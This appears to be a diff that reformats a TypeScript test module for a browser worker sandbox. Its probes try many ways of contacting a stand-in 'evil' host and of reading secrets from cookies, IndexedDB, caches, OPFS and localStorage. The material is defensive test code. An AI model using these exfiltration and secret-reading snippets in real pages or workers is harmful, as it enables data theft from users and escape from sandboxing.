@@ -10,42 +10,95 @@ export type Seen = "elsewhere" | "home" | "secret";
 const probes: readonly (readonly [name: string, seen: Seen, body: string])[] = [
   ["fetch", "elsewhere", `await fetch(u(evil, "fetch"), { mode: "no-cors" })`],
   ["fetch-home", "home", `await fetch(u(home, "fetch-home"))`],
-  ["fetch-keepalive", "elsewhere", `await fetch(u(evil, "fetch-keepalive"), { mode: "no-cors", keepalive: true, method: "POST", body: "x" })`],
+  [
+    "fetch-keepalive",
+    "elsewhere",
+    `await fetch(u(evil, "fetch-keepalive"), { mode: "no-cors", keepalive: true, method: "POST", body: "x" })`,
+  ],
   ["xhr", "elsewhere", `const x = new XMLHttpRequest(); x.open("GET", u(evil, "xhr")); x.send(); await wait(400)`],
   ["xhr-sync", "elsewhere", `const x = new XMLHttpRequest(); x.open("GET", u(evil, "xhr-sync"), false); x.send()`],
   ["xhr-home", "home", `const x = new XMLHttpRequest(); x.open("GET", u(home, "xhr-home")); x.send(); await wait(400)`],
   ["websocket", "elsewhere", `new WebSocket(u(evil, "websocket").replace("http", "ws")); await wait(400)`],
-  ["websocket-stream", "elsewhere", `const s = new WebSocketStream(u(evil, "websocket-stream").replace("http", "ws")); await s.opened`],
+  [
+    "websocket-stream",
+    "elsewhere",
+    `const s = new WebSocketStream(u(evil, "websocket-stream").replace("http", "ws")); await s.opened`,
+  ],
   ["eventsource", "elsewhere", `const s = new EventSource(u(evil, "eventsource")); await wait(400); s.close()`],
   ["importscripts", "elsewhere", `importScripts(u(evil, "importscripts"))`],
   ["import-function", "elsewhere", `await Function("a", "return import(a)")(u(evil, "import-function"))`],
   ["import-eval", "elsewhere", `await (0, eval)("import(" + JSON.stringify(u(evil, "import-eval")) + ")")`],
   ["import-home", "home", `await Function("a", "return import(a)")(u(home, "import-home"))`],
-  ["import-timer", "elsewhere", `setTimeout("import(" + JSON.stringify(u(evil, "import-timer")) + ").catch(() => 0)"); await wait(400)`],
-  ["font", "elsewhere", `const f = new FontFace("q", "url(" + u(evil, "font") + ")"); self.fonts?.add(f); await f.load()`],
-  ["wasm-streaming", "elsewhere", `await WebAssembly.compileStreaming(fetch(u(evil, "wasm-streaming"), { mode: "cors" }))`],
+  [
+    "import-timer",
+    "elsewhere",
+    `setTimeout("import(" + JSON.stringify(u(evil, "import-timer")) + ").catch(() => 0)"); await wait(400)`,
+  ],
+  [
+    "font",
+    "elsewhere",
+    `const f = new FontFace("q", "url(" + u(evil, "font") + ")"); self.fonts?.add(f); await f.load()`,
+  ],
+  [
+    "wasm-streaming",
+    "elsewhere",
+    `await WebAssembly.compileStreaming(fetch(u(evil, "wasm-streaming"), { mode: "cors" }))`,
+  ],
   ["nested-data", "elsewhere", `await inner("data:text/javascript," + encodeURIComponent(code("nested-data")))`],
   ["nested-blob", "elsewhere", `await inner(URL.createObjectURL(new Blob([code("nested-blob")])))`],
-  ["nested-module", "elsewhere", `await inner(URL.createObjectURL(new Blob(["import " + JSON.stringify(u(evil, "nested-module"))], { type: "text/javascript" })), "module")`],
+  [
+    "nested-module",
+    "elsewhere",
+    `await inner(URL.createObjectURL(new Blob(["import " + JSON.stringify(u(evil, "nested-module"))], { type: "text/javascript" })), "module")`,
+  ],
   ["nested-home", "home", `await inner(u(home, "nested-home"))`],
   ["shared-worker", "home", `new SharedWorker(u(home, "shared-worker")); await wait(400)`],
-  ["found-again", "elsewhere", `let o = globalThis, f; while (o && !f) { f = Object.getOwnPropertyDescriptor(o, "fetch")?.value; o = Object.getPrototypeOf(o); } await f.call(globalThis, u(evil, "found-again"), { mode: "no-cors" })`],
+  [
+    "found-again",
+    "elsewhere",
+    `let o = globalThis, f; while (o && !f) { f = Object.getOwnPropertyDescriptor(o, "fetch")?.value; o = Object.getPrototypeOf(o); } await f.call(globalThis, u(evil, "found-again"), { mode: "no-cors" })`,
+  ],
   ["beacon", "elsewhere", `navigator.sendBeacon(u(evil, "beacon"), "x"); await wait(200)`],
   ["service-worker", "home", `await navigator.serviceWorker.register(u(home, "service-worker"))`],
-  ["filter", "elsewhere", `const c = new OffscreenCanvas(8, 8).getContext("2d"); c.filter = "url(" + u(evil, "filter") + "#f)"; c.fillRect(0, 0, 8, 8); await wait(200)`],
-  ["indexeddb", "secret", `return await new Promise((done, fail) => { const o = indexedDB.open("secret"); o.onerror = () => fail(o.error); o.onsuccess = () => { const g = o.result.transaction("s").objectStore("s").get("k"); g.onsuccess = () => done(g.result); g.onerror = () => fail(g.error); }; })`],
+  [
+    "filter",
+    "elsewhere",
+    `const c = new OffscreenCanvas(8, 8).getContext("2d"); c.filter = "url(" + u(evil, "filter") + "#f)"; c.fillRect(0, 0, 8, 8); await wait(200)`,
+  ],
+  [
+    "indexeddb",
+    "secret",
+    `return await new Promise((done, fail) => { const o = indexedDB.open("secret"); o.onerror = () => fail(o.error); o.onsuccess = () => { const g = o.result.transaction("s").objectStore("s").get("k"); g.onsuccess = () => done(g.result); g.onerror = () => fail(g.error); }; })`,
+  ],
   ["caches", "secret", `return await (await (await caches.open("secret")).match(home + "/k")).text()`],
-  ["opfs", "secret", `const d = await navigator.storage.getDirectory(); return await (await (await d.getFileHandle("secret")).getFile()).text()`],
-  ["broadcast", "secret", `return await new Promise((done) => { const b = new BroadcastChannel("secret"); b.onmessage = (e) => done(e.data); b.postMessage("ask"); })`],
+  [
+    "opfs",
+    "secret",
+    `const d = await navigator.storage.getDirectory(); return await (await (await d.getFileHandle("secret")).getFile()).text()`,
+  ],
+  [
+    "broadcast",
+    "secret",
+    `return await new Promise((done) => { const b = new BroadcastChannel("secret"); b.onmessage = (e) => done(e.data); b.postMessage("ask"); })`,
+  ],
   ["locks", "secret", `return (await navigator.locks.query()).held.map(({ name }) => name).join()`],
   ["cookies", "secret", `return (await cookieStore.getAll()).map(({ value }) => value).join()`],
   ["local-storage", "secret", `return localStorage.getItem("secret")`],
 ];
 
 /** Probes whose way does not exist in any worker of this browser; the control shows that it does not. */
-export const absent: ReadonlySet<string> = new Set(["beacon", "shared-worker", "service-worker", "local-storage", "filter"]);
+export const absent: ReadonlySet<string> = new Set([
+  "beacon",
+  "shared-worker",
+  "service-worker",
+  "local-storage",
+  "filter",
+]);
 
-export const channels: readonly { readonly name: string; readonly seen: Seen }[] = probes.map(([name, seen]) => ({ name, seen }));
+export const channels: readonly { readonly name: string; readonly seen: Seen }[] = probes.map(([name, seen]) => ({
+  name,
+  seen,
+}));
 
 /** The address that a probe asks for. */
 export const trace = (name: string): string => `/x-${name}.js`;
